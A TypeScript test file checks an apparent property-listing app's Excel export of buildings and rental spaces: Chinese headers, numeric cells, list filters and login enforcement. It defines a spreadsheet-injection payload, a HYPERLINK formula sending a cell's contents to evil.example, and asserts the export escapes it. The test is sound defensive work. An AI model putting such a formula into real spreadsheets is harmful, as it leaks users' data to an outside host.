import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_STREETS } from '../../db/seed/reference';
import { makeStaff } from '../../test/factories';
import { createTestApp, login, type TestApp } from '../../test/support';
import { buildingRow, makeWorkbook, multipart, spaceRow } from './fixtures/workbooks';

// The export of a filtered list: same filters as the editor's list, 楼宇 + 房源 sheets, numbers as numbers, and
// formula-like text neutralised.

describe('building export', () => {
  let t: TestApp;
  let editor: string;
  const EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")';

  const exportXlsx = async (query = '') => {
    const res = await t.app.inject({
      method: 'GET',
      url: `/api/v1/buildings/export${query}`,
      headers: { cookie: editor },
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toContain('spreadsheetml');
    expect(res.headers['content-disposition']).toContain('attachment');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const rows = (name: string) => {
      const out: unknown[][] = [];
      wb.getWorksheet(name)!.eachRow((r) => {
        out.push((r.values as unknown[]).slice(1));
      });
      return out;
    };
    return { buildings: rows('楼宇'), spaces: rows('房源') };
  };

  beforeAll(async () => {
    t = await createTestApp({ now: '2026-11-26T02:00:00.000Z' });
    await t.database.db
      .insertInto('streets')
      .values(DEMO_STREETS.map((s, i) => ({ code: s.code, name: s.name, sortOrder: i + 1 })))
      .execute();
    const a = await makeStaff(t.database, ['building_editor']);
    editor = await login(t.app, a.username, a.password);
    // The data goes in through the import, as an editor would do it.
    const file = await makeWorkbook({
      buildings: [
        buildingRow({
          name: '占位大厦',
          street: '香港中路',
          address: '香港中路99号',
          grade: '甲级',
          use: '写字楼',
          floorsAbove: 30,
          tags: '+金融楼宇',
        }),
        buildingRow({
          name: '云南路测试大厦',
          street: '云南路',
          address: '云南路1号',
          grade: '乙级',
          use: '写字楼',
          description: '@备注以at开头',
        }),
      ],
      spaces: [
        spaceRow({
          buildingName: '占位大厦',
          floor: 10,
          unit: '1001',
          area: 500,
          rent: '4.5元/㎡·天',
          status: '待租',
          description: '-可分割',
        }),
        spaceRow({
          buildingName: '占位大厦',
          floor: 11,
          unit: '1101',
          area: 300,
          rent: 130,
          rentUnit: '元/㎡·月',
          status: '已出租',
        }),
        spaceRow({ buildingName: '云南路测试大厦', floor: 2, unit: '201', area: 120, rent: '2元/㎡·天' }),
      ],
    });
    const body = multipart('导出测试.xlsx', file);
    const up = await t.app.inject({
      method: 'POST',
      url: '/api/v1/buildings/import',
      payload: body.payload,
      headers: { ...body.headers, cookie: editor },
    });
    expect(up.statusCode, up.body).toBe(201);
    expect(up.json().report.canCommit, up.body).toBe(true);
    const done = await t.app.inject({
      method: 'POST',
      url: `/api/v1/buildings/import/${up.json().importId}/commit`,
      headers: { cookie: editor },
    });
    expect(done.statusCode, done.body).toBe(200);
    // The import refuses formula-like cells, so the hostile name arrives the other way (a form edit).
    await t.database.db.updateTable('buildings').set({ name: EVIL }).where('name', '=', '占位大厦').execute();
  });
  afterAll(async () => t?.close());

  it('exports buildings and spaces with Chinese headers, numbers as numbers, formula-like text escaped', async () => {
    const { buildings, spaces } = await exportXlsx();
    expect(buildings[0]!.slice(0, 3)).toEqual(['楼宇名称', '所属街道', '地址']);
    expect(buildings[0]).toContain('最低租金（元/㎡·月）');
    expect(spaces[0]).toContain('面积（㎡）');
    expect(buildings).toHaveLength(3);
    const evil = buildings.find((r) => String(r[0]).includes('HYPERLINK'))!;
    expect(evil[0]).toBe(`'${EVIL}`);
    expect(evil[15]).toBe("'+金融楼宇");
    expect(evil[5]).toBe(30);
    expect(evil[1]).toBe('香港中路街道');
    const other = buildings.find((r) => r[0] === '云南路测试大厦')!;
    expect(other[other.length - 1]).toBe("'@备注以at开头");
    expect(spaces).toHaveLength(4);
    const s1001 = spaces.find((r) => r[2] === '1001')!;
    expect(s1001[0]).toBe(`'${EVIL}`);
    expect(s1001.slice(1, 9)).toEqual([10, '1001', 500, 4.5, '元/㎡·天', 136.88, 4.5, '待租']);
    expect(s1001[14]).toBe("'-可分割");
    // No cell is a formula.
    for (const r of [...buildings, ...spaces])
      for (const v of r) expect(typeof v === 'object' && v !== null && 'formula' in v).toBe(false);
  });

  it('applies the list filters', async () => {
    const yunnan = await exportXlsx('?street=370202002');
    expect(yunnan.buildings.map((r) => r[0]).slice(1)).toEqual(['云南路测试大厦']);
    expect(yunnan.spaces).toHaveLength(2);
    const dear = await exportXlsx('?rentMin=4&rentUnit=yuan_per_sqm_day');
    expect(dear.buildings).toHaveLength(2);
    const bad = await t.app.inject({
      method: 'GET',
      url: '/api/v1/buildings/export?street=999',
      headers: { cookie: editor },
    });
    expect(bad.statusCode).toBe(400);
    expect((await t.app.inject({ method: 'GET', url: '/api/v1/buildings/export' })).statusCode).toBe(401);
  });
});
